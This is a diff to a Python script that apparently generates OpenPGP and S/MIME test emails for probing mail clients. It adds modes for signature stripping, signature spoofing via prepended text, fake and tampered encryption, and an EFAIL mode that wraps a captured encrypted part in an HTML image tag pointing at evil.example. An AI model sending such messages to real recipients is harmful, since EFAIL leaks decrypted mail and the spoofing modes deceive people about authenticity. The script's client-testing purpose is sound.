@@ -34,6 +34,8 @@ def inner_entity(a):
     body = a.body
     if a.charset.lower() == "iso-2022-jp":
         part = MIMEText(body, "plain", "iso-2022-jp")
+    elif a.charset.lower() == "us-ascii":
+        part = MIMEText(body, "plain", "us-ascii")
     else:
         part = MIMEText(body, "plain", "utf-8")
     if a.protected_subject is not None:
@@ -60,7 +62,10 @@ def canon(entity):
 
 def signed(entity, signer):
     data = canon(entity)
-    sig = gpg(["--armor", "--detach-sign", "--local-user", signer, "--digest-algo", "SHA256"], data)
+    users = []
+    for u in signer.split(","):
+        users += ["--local-user", u]
+    sig = gpg(["--armor", "--detach-sign", "--digest-algo", "SHA256"] + users, data)
     outer = MIMEMultipart("signed", protocol="application/pgp-signature", micalg="pgp-sha256")
     outer.attach(entity)
     s = MIMEBase("application", "pgp-signature", name="signature.asc")
@@ -68,8 +73,8 @@ def signed(entity, signer):
     outer.attach(s)
     return outer
 
-def encrypted(data, recipients, signer=None):
-    args = ["--armor", "--encrypt"]
+def encrypted(data, recipients, signer=None, extra=()):
+    args = ["--armor", "--encrypt"] + list(extra)
     for r in recipients:
         args += ["--recipient", r]
     if signer:
@@ -100,6 +105,8 @@ def main():
     ap.add_argument("--recipient", action="append", default=[])
     ap.add_argument("--attach-key")
     ap.add_argument("--header", action="append", default=[])
+    ap.add_argument("--prepend-text", help="wrap the signed entity in multipart/mixed after this text")
+    ap.add_argument("--captured", help="a mail whose multipart/encrypted part is reused (EFAIL)")
     a = ap.parse_args()
     a.body = open(a.body_file).read() if a.body_file else a.body.replace("\\n", "\n")
     if a.mode == "plain":
@@ -122,6 +129,44 @@ def main():
             args += ["--recipient", r]
         text = gpg(args, a.body.encode(a.charset))
         msg = MIMEText(text.decode(), "plain", "us-ascii")
+    elif a.mode == "signed-stripped":
+        msg = signed(inner_entity(a), a.signer)
+        msg.set_payload([msg.get_payload()[0]])
+    elif a.mode == "mixed-signed":
+        msg = MIMEMultipart("mixed")
+        msg.attach(MIMEText(a.prepend_text or "", "plain", "utf-8"))
+        msg.attach(signed(inner_entity(a), a.signer))
+    elif a.mode == "fake-encrypted":
+        text = gpg(["--clearsign", "--local-user", a.signer], a.body.encode())
+        msg = MIMEMultipart("encrypted", protocol="application/pgp-encrypted")
+        v = MIMEBase("application", "pgp-encrypted"); v.set_payload("Version: 1\r\n"); msg.attach(v)
+        c = MIMEBase("application", "octet-stream"); c.set_payload(text.decode()); msg.attach(c)
+    elif a.mode == "efail":
+        import email as _e
+        captured = _e.message_from_bytes(open(a.captured, "rb").read())
+        msg = MIMEMultipart("mixed")
+        msg.attach(MIMEText('<img src="http://evil.example/', "html", "us-ascii"))
+        msg.attach(captured if captured.get_content_type() == "multipart/encrypted" else captured.get_payload()[0])
+        msg.attach(MIMEText('">', "html", "us-ascii"))
+    elif a.mode == "no-mdc":
+        msg = encrypted(canon(inner_entity(a)), a.recipient, None,
+                        ["--rfc2440", "--cipher-algo", "CAST5"])
+    elif a.mode == "tampered":
+        import base64
+        args = ["--encrypt", "--sign", "--local-user", a.signer]
+        for r in a.recipient:
+            args += ["--recipient", r]
+        ct = bytearray(gpg(args, canon(inner_entity(a))))
+        ct[len(ct) - 30] ^= 0x01
+        msg = MIMEMultipart("encrypted", protocol="application/pgp-encrypted")
+        v = MIMEBase("application", "pgp-encrypted"); v.set_payload("Version: 1\r\n"); msg.attach(v)
+        c = MIMEBase("application", "octet-stream")
+        c.set_payload(base64.encodebytes(bytes(ct)).decode()); c["Content-Transfer-Encoding"] = "base64"
+        msg.attach(c)
+    elif a.mode == "smime":
+        msg = MIMEBase("application", "pkcs7-mime", smime_type="signed-data", name="smime.p7m")
+        msg.set_payload("MIAGCSqGSIb3DQEHAqCAMIACAQExDzANBglghkgBZQMEAgEFADCABgkqhkiG9w0BBwGggCSABA==\n")
+        msg["Content-Transfer-Encoding"] = "base64"
     else:
         sys.exit("unknown mode " + a.mode)
     if "Subject" in msg and a.mode not in ("plain",):
